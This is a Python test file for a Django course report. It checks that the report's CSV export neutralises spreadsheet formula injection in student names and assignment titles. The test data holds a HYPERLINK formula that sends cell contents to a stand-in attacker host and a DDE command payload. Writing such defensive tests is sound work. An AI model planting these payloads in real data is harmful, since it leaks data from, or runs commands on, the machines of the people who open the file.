"""Attack on the course usage CSV: text people chose (a display name, an assignment title) that a
spreadsheet would run as a formula is exported as text, a leading single quote before it (OWASP)."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from courses.models import Role
from reports.models import UsageRecord
from tests.conftest import job_row, make_user

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Open the report")'
TITLE = "+cmd|' /C calc'!A0"
# A whole day in the past, so the report's day holds the record at whatever time the suite runs.
NOON_YESTERDAY = timezone.localtime().replace(hour=12, minute=0, second=0, microsecond=0) - timedelta(days=1)


@pytest.fixture
def hostile_student(course):
    user = make_user("mallory", "mallory")
    user.first_name, user.last_name = HYPERLINK, ""
    user.save(update_fields=["first_name", "last_name"])
    course.enrollments.create(user=user, role=Role.STUDENT)
    return user


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_text_in_names_and_titles_is_exported_as_text_not_as_a_formula(
    client, instructor, hostile_student, assignment, start
):
    assignment.title = start + TITLE[1:]
    assignment.save(update_fields=["title"])
    job = job_row(hostile_student, assignment)
    submitted = NOON_YESTERDAY
    UsageRecord.objects.create(
        cluster="lab",
        slurm_job_id="7001",
        submitted_at=submitted,
        started_at=submitted,
        ended_at=submitted + timedelta(minutes=5),
        job=job,
        job_name=job.slurm_name,
        user="mallory",
        account="cs101",
        state="COMPLETED",
        gpus=1,
        cpus=1,
        ingested_at=timezone.now(),
    )
    client.force_login(instructor)
    day = NOON_YESTERDAY.date()

    response = client.get(reverse("reports:course-report-csv", args=["cs101"]), {"first": day, "last": day})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    names = {row[0]: [] for row in rows}
    for row in rows:
        names[row[0]].append(row[1])
    assert "'" + HYPERLINK in names["student"]
    assert "'" + start + TITLE[1:] in names["assignment"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
